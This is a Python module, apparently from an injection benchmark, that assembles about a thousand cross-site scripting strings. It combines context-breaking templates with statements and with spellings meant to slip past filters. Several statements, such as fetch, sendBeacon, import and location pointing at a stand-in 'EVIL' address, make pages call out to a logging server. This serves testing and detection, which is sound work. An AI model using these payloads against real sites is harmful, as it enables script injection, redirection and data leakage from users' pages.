"""Some thousand strings that try to run a script, or to ask somebody for something, wherever they are shown.

They are put together from parts: what ends the place in which a text stands, what starts something new there, what that
would do, and how all of it may be spelled so that a filter does not see it. Each does something that can be noticed: it
names its own number where scripts run, and asks the address that it is given, with its number in it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

from benchmarks.injections.families import CORE, FAMILIES, SPELLINGS

RAN = 7_357_000
"""What a string tells when it runs, with its number added: seven digits that stand in nothing else."""

# What runs: no space, quote or bracket of markup is in it, so that it may stand anywhere.
_STATEMENTS = (
    "alert(§)",
    "confirm(§)",
    "prompt(§)",
    "print(§)",
    "self.ran=§",
    "document.title=§",
    "location=`EVIL`",
    "open(`EVIL`)",
    "fetch(`EVIL`)",
    "(new(Image)).src=`EVIL`",
    "console.log(§)",
    "navigator.sendBeacon(`EVIL`)",
    "top.location=`EVIL`",
    "import(`EVIL`)",
    "setTimeout(alert,0,§)",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Injection:
    number: int
    family: str
    text: str

    @property
    def is_self_contained(self) -> bool:
        """Whether what follows it on a page is still markup, when it was taken for such."""
        return not any(sign in self.text.lower() for sign in _SWALLOWING)


# What may take all that comes after it for its own: comments, sections, texts that nothing ends.
_SWALLOWING = (
    "<plaintext",
    "<!--",
    "<![cdata",
    "<!",
    "<?",
    "<frameset",
    "<textarea",
    "<title",
    "<style",
    "<script",
    "<xmp",
    "<noembed",
    "<noframes",
    "<noscript",
    "<iframe",
    "<template",
    "<select",
    "<base",
)


def injections(evil: str) -> list[Injection]:
    """All of them, no two alike. `evil` is the address of a server that notices what it is asked, without a slash.

    Of string `n` anything that is asked for there has a path that begins with `/x<n>`.
    """
    seen: set[str] = set()
    found: list[Injection] = []
    for family, template, spelled in _all():
        number = len(found)
        pattern = spelled(template)
        if pattern in seen:
            continue
        seen.add(pattern)
        address = f"{evil}/x{number}"
        text = template.replace("JS", _STATEMENTS[number % len(_STATEMENTS)]).replace("EVIL", address)
        text = text.replace("HOST", address.partition("//")[2]).replace("§", str(RAN + number))
        found.append(Injection(number=number, family=family, text=spelled(text)))
    return found


def a_few(of: list[Injection], number: int) -> list[Injection]:
    """So many of them, of every family, at even distances."""
    return [of[index * len(of) // number] for index in range(number)]


def _all() -> Iterator[tuple[str, str, Callable[[str], str]]]:
    """Families, templates, and how what is made of a template is spelled.

    In a template JS stands for a statement, EVIL for an address, HOST for that without its scheme, § for the number.
    """
    for family, make in FAMILIES.items():
        for template in make():
            yield family, template, str
    for spelled, template in product(SPELLINGS, CORE):
        yield "spellings", template, spelled
